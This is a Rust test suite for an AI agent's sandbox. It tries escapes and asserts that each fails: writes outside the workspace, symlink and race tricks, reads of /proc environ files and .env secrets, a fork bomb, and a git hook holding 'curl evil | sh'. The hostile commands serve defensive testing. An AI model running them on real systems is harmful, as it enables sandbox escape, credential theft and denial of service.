//! Escape attempts, with each backend: every test asserts that the attempt failed AND that
//! nothing outside the workspace changed.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use common::{Env, backends, exit_code, modes, processes_with, read};
use deputy_tools::Backend;
use deputy_tools::tools::{EditTool, WriteTool};
use serde_json::json;

const SECRET: &str = "sk-escape-test-7f3a9c1e5b";

fn plant_secret() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    // SAFETY: set once, before any sandbox of this process reads the environment.
    ONCE.call_once(|| unsafe { std::env::set_var("DEPUTY_ESCAPE_TEST_API_KEY", SECRET) });
}

#[tokio::test]
async fn writes_outside_the_workspace_fail() {
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |_| {});
        let etc_target = format!("/etc/deputy-escape-{}", std::process::id());
        let out = env.bash(&format!("echo pwned > {etc_target}")).await;
        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
        assert!(
            !std::path::Path::new(&etc_target).exists(),
            "{b:?} wrote to /etc"
        );

        // (With bwrap, `..` is the sandbox's private /tmp, so the second write may "succeed"
        // there; what matters is that nothing changed on the host.)
        env.bash("echo pwned > ../outside/x; echo pwned > ../y")
            .await;
        assert!(read(&env.outside.join("x")).is_none(), "{b:?}");
        assert!(read(&env.dir.path().join("y")).is_none(), "{b:?}");

        let out = env
            .tool(&WriteTool, json!({"path": "../x", "content": "pwned"}))
            .await;
        assert!(
            out.is_error && out.content.contains("outside the workspace"),
            "{}",
            out.content
        );
        assert!(read(&env.dir.path().join("x")).is_none());
        let out = env
            .tool(
                &WriteTool,
                json!({"path": env.outside.join("z").to_str().unwrap(), "content": "pwned"}),
            )
            .await;
        assert!(
            out.is_error && out.content.contains("outside the workspace"),
            "{}",
            out.content
        );

        // Inside, writes work (in existing directories and files; with Landlock and a `.git`,
        // new top-level entries are the write tool's job, see sandbox/landlock.rs).
        let out = env.bash("echo ok > src/sub.txt && mkdir -p src/d && echo ok > src/d/x && echo more >> README.md").await;
        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
        assert_eq!(read(&env.ws.join("src/d/x")).unwrap(), "ok\n");
    }
}

#[tokio::test]
async fn symlinks_that_lead_outside_are_not_followed() {
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |_| {});
        let victim = env.outside.join("victim");
        std::fs::write(&victim, "safe").unwrap();
        // A link placed in the workspace beforehand: edit and write through it fail.
        std::os::unix::fs::symlink(&victim, env.ws.join("link")).unwrap();
        let out = env
            .tool(
                &EditTool,
                json!({"path": "link", "old_string": "safe", "new_string": "pwned"}),
            )
            .await;
        assert!(out.is_error, "{}", out.content);
        let out = env
            .tool(&WriteTool, json!({"path": "link", "content": "pwned"}))
            .await;
        assert!(out.is_error, "{}", out.content);
        assert_eq!(read(&victim).unwrap(), "safe");

        // A link made by bash, then written through with bash and with write.
        let out = env
            .bash(&format!(
                "ln -s {} made && echo pwned > made; cat made",
                victim.display()
            ))
            .await;
        assert_eq!(read(&victim).unwrap(), "safe", "{b:?}: {}", out.content);
        let made_link = env
            .ws
            .join("made")
            .symlink_metadata()
            .is_ok_and(|m| m.file_type().is_symlink());
        // bwrap lets a command make a new entry at the top of the workspace; Landlock, with a
        // `.git` present (as here), does not (README: the sandbox table).
        match b {
            Backend::Bwrap => assert!(made_link, "bwrap: the link was not made: {}", out.content),
            Backend::Landlock => assert!(!made_link, "Landlock: a top-level entry was made"),
            Backend::None => {}
        }
        if made_link {
            let out = env
                .tool(&WriteTool, json!({"path": "made", "content": "pwned"}))
                .await;
            assert!(out.is_error, "{}", out.content);
            let out = env
                .tool(
                    &EditTool,
                    json!({"path": "made", "old_string": "safe", "new_string": "x"}),
                )
                .await;
            assert!(out.is_error, "{}", out.content);
        }
        // The same through a subdirectory, where every backend lets bash make the link.
        let out = env
            .bash(&format!(
                "ln -s {} src/made && echo pwned > src/made",
                victim.display()
            ))
            .await;
        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
        let out = env
            .tool(&WriteTool, json!({"path": "src/made", "content": "pwned"}))
            .await;
        assert!(out.is_error, "{}", out.content);
        assert_eq!(read(&victim).unwrap(), "safe");
    }
}

#[tokio::test]
async fn secrets_in_deputys_environment_stay_out() {
    plant_secret();
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |p| {
            p.env_allow = vec!["DEPUTY_ESCAPE_TEST_API_KEY".into(), "LANG".into()]
        });
        let pid = std::process::id();
        let out = env
            .bash(&format!(
                "env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ; cat /proc/{pid}/environ; \
                 for f in /proc/[0-9]*/environ; do cat $f; done 2>/dev/null; echo done"
            ))
            .await;
        assert!(out.content.contains("done"), "{b:?}: {}", out.content);
        assert!(
            !out.content.contains(SECRET),
            "{b:?} leaked the key: {}",
            out.content
        );
        assert!(!out.metadata.to_string().contains(SECRET));
        assert!(
            out.content.contains("PATH="),
            "{b:?}: env printed: {}",
            out.content
        );
    }
}

#[tokio::test]
async fn network_is_off_unless_opted_in() {
    for (b, kept) in modes() {
        for network in [false, true] {
            let listener = TcpListener::bind("127.0.0.1:0").unwrap();
            listener.set_nonblocking(true).unwrap();
            let port = listener.local_addr().unwrap().port();
            let env = Env::make(b, kept, |p| p.network = network);
            let out = env
                .bash(&format!(
                    "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
                ))
                .await;
            let accepted = listener.accept().is_ok();
            if network {
                assert!(
                    out.content.contains("connected") && accepted,
                    "{b:?} network=true: {}",
                    out.content
                );
            } else {
                assert!(!out.content.contains("connected"), "{b:?}: {}", out.content);
                assert!(!accepted, "{b:?}: the listener saw a connection");
            }
        }
    }
}

#[tokio::test]
async fn fork_bomb_is_held() {
    let report = deputy_tools::sandbox::probe();
    if report.is_root && report.pids_cgroup.is_err() {
        common::outside::missing(
            "fork bomb test",
            &format!(
                "running as root, where the kernel does not enforce the process limit, and no pids cgroup is available ({})",
                report.pids_cgroup.as_ref().err().map_or("", String::as_str)
            ),
            "run as a normal user, or give deputy a writable pids cgroup (cgroup v1 pids, or a delegated v2 subtree)",
        );
        return;
    }
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |p| p.limits.processes = Some(64));
        let start = Instant::now();
        let out = env
            .bash_timeout(":(){ :|:& };: ; sleep 2; echo survived", Some(4_000))
            .await;
        assert!(
            start.elapsed() < Duration::from_secs(15),
            "{b:?} took {:?}",
            start.elapsed()
        );
        assert!(
            out.content.contains("Resource temporarily unavailable")
                || out.content.contains("retry"),
            "{b:?}: the limit was not hit: {}",
            &out.content[..out.content.len().min(2000)]
        );
        // Nothing of it is left.
        std::thread::sleep(Duration::from_millis(200));
        let left = processes_with(":|:");
        assert!(left.is_empty(), "{b:?} left {} processes", left.len());
    }
}

/// A kept sandbox joins its cgroups after it has started (the move waits ~7 ms for the
/// kernel, overlapped with bwrap's set-up): its first command, the one that meets it earliest,
/// is already inside them, and so is what it starts, under the session's limit.
/// (`fork_bomb_is_held` checks that limit on a first command.)
#[tokio::test]
async fn a_kept_sandboxs_first_command_is_already_in_its_cgroup() {
    let report = deputy_tools::sandbox::probe();
    if report.pids_cgroup.is_err() {
        use std::io::Write;
        let _ = writeln!(
            std::io::stderr(),
            "SKIP kept sandbox cgroup test: deputy makes no cgroup here ({}); it does as root or with a delegated pids cgroup",
            report.pids_cgroup.as_ref().err().map_or("", String::as_str)
        );
        return;
    }
    for b in backends() {
        let env = Env::make(b, true, |p| p.limits.processes = Some(24));
        let out = env
            .bash(
                "cat /proc/self/cgroup; (sh -c 'cat /proc/self/cgroup' &); sleep 0.2; \
                 cat /sys/fs/cgroup/pids$(grep :pids: /proc/self/cgroup | cut -d: -f3)/pids.max \
                 2>/dev/null || true",
            )
            .await;
        // The v1 pids hierarchy where there is one, else the unified one.
        let lines = || out.content.lines();
        let mut pids: Vec<&str> = lines().filter(|l| l.contains(":pids:")).collect();
        if pids.is_empty() {
            pids = lines().filter(|l| l.starts_with("0::")).collect();
        }
        assert_eq!(pids.len(), 2, "{b:?}: {}", out.content);
        assert!(
            pids.iter().all(|l| l.contains("/deputy-")),
            "{b:?}: a process of the first command is outside the sandbox's cgroup: {}",
            out.content
        );
        // Where the sandbox sees its cgroup's limit (v1 under Landlock), it is the session's.
        if b == Backend::Landlock && out.content.lines().any(|l| l.contains(":pids:")) {
            assert!(
                out.content.lines().any(|l| l.trim() == "24"),
                "{b:?}: pids.max is not the session's: {}",
                out.content
            );
        }
    }
}

#[tokio::test]
async fn timeout_kills_grandchildren_and_background_jobs() {
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |_| {});
        let marker = format!("{}.{}", 900 + (std::process::id() % 90), b as u8);
        let start = Instant::now();
        let out = env
            .bash_timeout(
                &format!("sleep {marker} & (sleep {marker} &) ; bash -c 'sleep {marker}' ; wait"),
                Some(1_000),
            )
            .await;
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "{b:?}: {:?}",
            start.elapsed()
        );
        assert!(
            out.metadata["timed_out"].as_bool().unwrap(),
            "{b:?}: {}",
            out.content
        );
        assert!(out.content.contains("timed out"), "{}", out.content);
        std::thread::sleep(Duration::from_millis(300));
        assert!(
            processes_with(&format!("sleep {marker}")).is_empty(),
            "{b:?}: sleeps survived"
        );

        // A command that finishes does not leave background jobs behind either.
        let out = env
            .bash(&format!("(sleep {marker}1 &); echo started"))
            .await;
        assert!(out.content.contains("started"));
        std::thread::sleep(Duration::from_millis(300));
        assert!(
            processes_with(&format!("sleep {marker}1")).is_empty(),
            "{b:?}: background job survived"
        );
    }
}

#[tokio::test]
async fn git_hooks_are_read_only_by_default() {
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |_| {});
        let hook = env.ws.join(".git/hooks/pre-commit");
        let out = env
            .bash("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
            .await;
        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
        assert!(read(&hook).is_none(), "{b:?} wrote a hook");
        let out = env
            .tool(
                &WriteTool,
                json!({"path": ".git/hooks/pre-commit", "content": "x"}),
            )
            .await;
        assert!(
            out.is_error && out.content.contains(".git"),
            "{}",
            out.content
        );
        assert!(read(&hook).is_none());
        // Reading git state still works.
        let out = env.bash("ls .git").await;
        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
        // With writable_git the agent may.
        let env = Env::make(b, kept, |p| p.writable_git = true);
        let out = env.bash("echo ok > .git/hooks/pre-commit").await;
        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
    }
}

#[tokio::test]
async fn read_only_mode_writes_nowhere() {
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |p| p.mode = deputy_tools::SandboxMode::ReadOnly);
        let out = env.bash("echo x > new.txt").await;
        assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
        assert!(read(&env.ws.join("new.txt")).is_none());
        let out = env
            .bash("cat README.md && echo tmp > $TMPDIR/t && cat $TMPDIR/t")
            .await;
        assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
    }
}

#[tokio::test]
async fn bwrap_masks_env_files() {
    if !backends().contains(&Backend::Bwrap) {
        return;
    }
    let env = Env::new(Backend::Bwrap, |_| {});
    drop(env);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join(".env"),
        format!("OPENAI_API_KEY={SECRET}\n"),
    )
    .unwrap();
    std::fs::write(dir.path().join(".env.example"), "OPENAI_API_KEY=\n").unwrap();
    let ws = dir.path().canonicalize().unwrap();
    let sb = deputy_tools::Sandbox::new(
        deputy_tools::SandboxPolicy {
            force_backend: Some(Backend::Bwrap),
            ..Default::default()
        },
        &ws,
    )
    .unwrap();
    let p = sb.command("cat .env; cat .env.example").unwrap();
    let done = deputy_tools::process::run(p, Duration::from_secs(10), Default::default())
        .await
        .unwrap();
    let text = done.output.full_text();
    assert!(!text.contains(SECRET), "{text}");
    assert!(text.contains("OPENAI_API_KEY="), "{text}");
    let mut f = std::fs::File::open(ws.join(".env")).unwrap();
    let mut s = String::new();
    f.read_to_string(&mut s).unwrap();
    assert!(s.contains(SECRET), "the host file is untouched");
}

#[tokio::test]
async fn env_files_at_any_depth_are_hidden_on_both_backends() {
    for (b, kept) in modes() {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(ws.join("sub/deeper")).unwrap();
        for p in [".env", "sub/.env", "sub/deeper/.env.local"] {
            std::fs::write(ws.join(p), format!("TOKEN={SECRET}\n")).unwrap();
        }
        std::fs::write(ws.join("sub/.env.example"), "TOKEN=\n").unwrap();
        let sb = common::sandbox(b, &ws, kept.then(|| common::SUPERVISOR.into()));
        let done = sb
            .run(
                "cat .env sub/.env sub/deeper/.env.local sub/.env.example; grep -r TOKEN . ; true",
                Duration::from_secs(10),
                Default::default(),
            )
            .await
            .unwrap();
        let text = done.output.full_text();
        assert!(!text.contains(SECRET), "{b:?} kept={kept}: {text}");
        assert!(
            text.contains("TOKEN="),
            "{b:?}: the example stays readable: {text}"
        );
    }
}

#[tokio::test]
async fn host_unix_sockets_are_out_of_reach() {
    use std::os::unix::net::UnixListener;
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |_| {});
        // A socket beside the workspace (as in /tmp, where ssh agents live), and in /run (where
        // docker's and dbus's are), when the test may make one there.
        let mut socks = vec![env.outside.join("agent.sock")];
        let run_sock = std::path::PathBuf::from(format!(
            "/run/deputy-test-{}-{b:?}.sock",
            std::process::id()
        ));
        if std::fs::metadata("/run").is_ok_and(|m| !m.permissions().readonly()) {
            socks.push(run_sock.clone());
        }
        let listeners: Vec<UnixListener> = socks
            .iter()
            .filter_map(|p| {
                let _ = std::fs::remove_file(p);
                UnixListener::bind(p).ok()
            })
            .collect();
        assert!(!listeners.is_empty());
        for l in &listeners {
            l.set_nonblocking(true).unwrap();
        }
        for p in &socks {
            let out = env
                .bash(&format!(
                    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.send(b'hi'); print('connected')\"",
                    p.display()
                ))
                .await;
            assert!(
                !out.content.contains("connected"),
                "{b:?} {}: {}",
                p.display(),
                out.content
            );
        }
        for l in &listeners {
            assert!(l.accept().is_err(), "{b:?}: a host socket saw a connection");
        }
        let _ = std::fs::remove_file(&run_sock);
    }
}

#[tokio::test]
async fn io_uring_is_not_available_under_landlock() {
    if !backends().contains(&Backend::Landlock) {
        return;
    }
    let env = Env::new(Backend::Landlock, |_| {});
    // io_uring_setup(8, params): a ring could create sockets the socket() filter never sees.
    let out = env
        .bash(
            "python3 -c \"import ctypes, ctypes.util, os; libc = ctypes.CDLL(None, use_errno=True); p = ctypes.create_string_buffer(120); fd = libc.syscall(425, 8, p); print('ring', fd, os.strerror(ctypes.get_errno()))\"",
        )
        .await;
    assert!(out.content.contains("ring -1"), "{}", out.content);
    assert!(out.content.contains("not permitted"), "{}", out.content);
}

#[tokio::test]
async fn processes_a_command_detaches_do_not_outlive_it() {
    for (b, kept) in modes() {
        // With and without a cgroup to find them (without one, deputy adopts the orphans).
        for no_cgroups in [false, true] {
            let marker = format!(
                "{}.{}",
                800 + std::process::id() % 100,
                u8::from(no_cgroups) + 1
            );
            let env = Env::make(b, kept, |p| p.no_cgroups = no_cgroups);
            let out = env
                .bash(&format!(
                    "setsid -f sleep {marker}; (setsid sleep {marker} &); nohup sleep {marker} >/dev/null 2>&1 & disown; echo started"
                ))
                .await;
            assert!(out.content.contains("started"), "{b:?}: {}", out.content);
            std::thread::sleep(Duration::from_millis(300));
            let left = processes_with(&format!("sleep {marker}"));
            assert!(
                left.is_empty(),
                "{b:?} (no cgroups: {no_cgroups}): left running: {left:?}"
            );
        }
    }
}

#[tokio::test]
async fn the_address_space_limit_follows_the_machine() {
    let mem_kb: u64 = std::fs::read_to_string("/proc/meminfo")
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("MemTotal:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap();
    for (b, kept) in modes() {
        let env = Env::make(b, kept, |_| {});
        let out = env.bash("ulimit -v").await;
        let limit: u64 = out.content.lines().next().unwrap().trim().parse().unwrap();
        assert!(
            limit <= mem_kb.max(4 * 1024 * 1024),
            "{b:?}: {limit} KiB of address space on a {mem_kb} KiB machine"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn searches_never_walk_out_through_a_swapped_directory() {
    use deputy_tools::tools::{GlobTool, GrepTool, ListTool, ReadTool};
    let Some(b) = backends().into_iter().next() else {
        return;
    };
    let env = Env::new(b, |_| {});
    std::fs::write(env.outside.join("host-secret.txt"), "HOST-SECRET-77\n").unwrap();
    let ws = env.ws.clone();
    let outside = env.outside.clone();
    // Swap `d` (and `sub/d`) between a directory and a link to the outside, as fast as possible.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            std::fs::create_dir_all(ws.join("sub")).unwrap();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                for d in [ws.join("d"), ws.join("sub/d")] {
                    let _ = std::fs::remove_file(&d);
                    let _ = std::fs::create_dir(&d);
                    let _ = std::fs::write(d.join("inside.txt"), "inside\n");
                    let _ = std::fs::remove_file(d.join("inside.txt"));
                    let _ = std::fs::remove_dir(&d);
                    let _ = std::os::unix::fs::symlink(&outside, &d);
                }
            }
        })
    };
    let mut looked = 0;
    for _ in 0..300 {
        for (tool, input) in [
            (
                &GrepTool as &dyn deputy_tools::Tool,
                json!({"pattern": "HOST-SECRET"}),
            ),
            (&GrepTool, json!({"pattern": "HOST-SECRET", "path": "d"})),
            (&ListTool, json!({"path": "d"})),
            (&ListTool, json!({})),
            (&GlobTool, json!({"pattern": "**/*.txt"})),
            (&GlobTool, json!({"pattern": "*", "path": "sub/d"})),
            (&ReadTool, json!({"path": "d/host-secret.txt"})),
        ] {
            let is_read = tool.name() == "read";
            let out = env.tool(tool, input).await;
            looked += 1;
            // (read's errors repeat the path asked for; only its content counts.)
            assert!(
                !out.content.contains("HOST-SECRET-77")
                    && (is_read || !out.content.contains("host-secret.txt")),
                "a search walked out: {}",
                out.content
            );
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    assert_eq!(looked, 2100);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn at_most_a_few_commands_run_at_once_in_a_process() {
    let Some(b) = backends().into_iter().next() else {
        return;
    };
    let env = std::sync::Arc::new(Env::new(b, |_| {}));
    // Each command records when it ran; 20 at once, from one process.
    let mut tasks = Vec::new();
    for i in 0..20 {
        let env = env.clone();
        tasks.push(tokio::spawn(async move {
            env.bash(&format!(
                "s=$(date +%s%N); sleep 0.3; e=$(date +%s%N); echo $s $e > src/slot-{i}.txt"
            ))
            .await
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    let mut spans: Vec<(u128, u128)> = (0..20)
        .map(|i| {
            // (In `src/`: under Landlock a command cannot create an entry beside `.git`.)
            let t = read(&env.ws.join(format!("src/slot-{i}.txt"))).unwrap();
            let mut it = t.split_whitespace().map(|n| n.parse::<u128>().unwrap());
            (it.next().unwrap(), it.next().unwrap())
        })
        .collect();
    spans.sort();
    let most = spans
        .iter()
        .map(|(s, _)| spans.iter().filter(|(a, b)| a <= s && s < b).count())
        .max()
        .unwrap();
    assert!(
        most <= deputy_tools::process::MAX_CONCURRENT_COMMANDS,
        "{most} commands ran at once"
    );
}

/// Two sessions side by side (two sandboxes, kept or not): a command of one cannot see the files
/// the other left in its private /tmp, nor see or signal the other's processes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_cannot_see_or_signal_each_other() {
    for (b, kept) in modes() {
        // Session one without a cgroup: the harder case, where nothing but deputy (a child
        // subreaper under Landlock) finds what an abandoned command leaves.
        let one = Env::make(b, kept, |p| p.no_cgroups = true);
        let two = Env::make(b, kept, |_| {});
        let marker = format!(
            "7{}.{}{}",
            std::process::id() % 100,
            b as u8,
            u8::from(kept)
        );
        let first = one
            .bash(&format!("echo left > /tmp/left-by-one-{marker}; echo ok"))
            .await;
        assert!(
            first.content.contains("ok"),
            "{b:?} kept={kept}: {}",
            first.content
        );
        // The kept sandbox really is one (it did not fall back to a sandbox per command).
        assert_eq!(one.ctx.sandbox.as_ref().unwrap().is_kept(), kept, "{b:?}");
        // A long command of session one, running while session two looks for it.
        let running = {
            let one = std::sync::Arc::new(one);
            let o = one.clone();
            let marker = marker.clone();
            (
                one,
                tokio::spawn(
                    async move { o.bash(&format!("sleep {marker}; echo finished")).await },
                ),
            )
        };
        let t0 = Instant::now();
        while processes_with(&format!("sleep {marker}")).is_empty() {
            assert!(
                t0.elapsed() < Duration::from_secs(10),
                "{b:?}: never started"
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        // (`slee[p]`: the pattern must not match this command's own line.)
        let seen = two
            .bash(&format!(
                "ls -a /tmp; pkill -9 -f 'slee[p] {marker}'; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null; echo; done | grep -c 'slee[p] {marker}'; true"
            ))
            .await;
        assert!(
            !seen.content.contains("left-by-one"),
            "{b:?} kept={kept}: session two saw session one's /tmp: {}",
            seen.content
        );
        assert!(
            !processes_with(&format!("sleep {marker}")).is_empty(),
            "{b:?} kept={kept}: session two killed session one's command: {}",
            seen.content
        );
        if b == Backend::Bwrap {
            // Its own pid namespace: the other's processes are not even listed.
            assert!(
                seen.content.contains("\n0\n"),
                "{b:?} kept={kept}: session one's process was visible: {}",
                seen.content
            );
        }
        // Session one gives its command up half-way (a cancelled turn): nothing of it is left.
        let (one, task) = running;
        drop(one);
        task.abort();
        let _ = task.await;
        let t0 = Instant::now();
        while !processes_with(&format!("sleep {marker}")).is_empty() {
            assert!(
                t0.elapsed() < Duration::from_secs(3),
                "{b:?} kept={kept}: an abandoned command survived"
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

/// A supervisor that cannot start (its program is gone) costs nothing but the try: the command
/// runs in a sandbox of its own, and so do the next ones.
#[tokio::test]
async fn a_kept_sandbox_that_cannot_start_falls_back_to_one_per_command() {
    if !backends().contains(&Backend::Bwrap) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap();
    let sb = common::sandbox(
        Backend::Bwrap,
        &ws,
        Some("/nonexistent/deputy-supervisor".into()),
    );
    assert!(sb.is_kept());
    for _ in 0..2 {
        let done = sb
            .run(
                "echo still-works",
                Duration::from_secs(10),
                Default::default(),
            )
            .await
            .unwrap();
        assert_eq!(done.exit_code, Some(0), "{}", done.output.full_text());
        assert!(done.output.full_text().contains("still-works"));
        assert!(!sb.is_kept());
    }
}

/// The supervisor is found inside the sandbox wherever it lives, also under a directory the
/// sandbox makes private (a build in /tmp).
#[tokio::test]
async fn a_supervisor_under_tmp_serves_the_kept_sandbox() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let program = dir.path().join("supervisor");
    // Copied by another process: a copy written here would leave its write handle in any child
    // another test forks meanwhile, and executing it would then fail with ETXTBSY.
    let copied = std::process::Command::new("cp")
        .arg(common::SUPERVISOR)
        .arg(&program)
        .status()
        .unwrap();
    assert!(copied.success());
    for b in backends() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path().canonicalize().unwrap();
        let sb = common::sandbox(b, &ws, Some(program.clone()));
        let done = sb
            .run("echo served", Duration::from_secs(10), Default::default())
            .await
            .unwrap();
        assert!(done.output.full_text().contains("served"), "{b:?}");
        assert!(
            sb.is_kept(),
            "{b:?}: the supervisor under /tmp did not start"
        );
    }
}
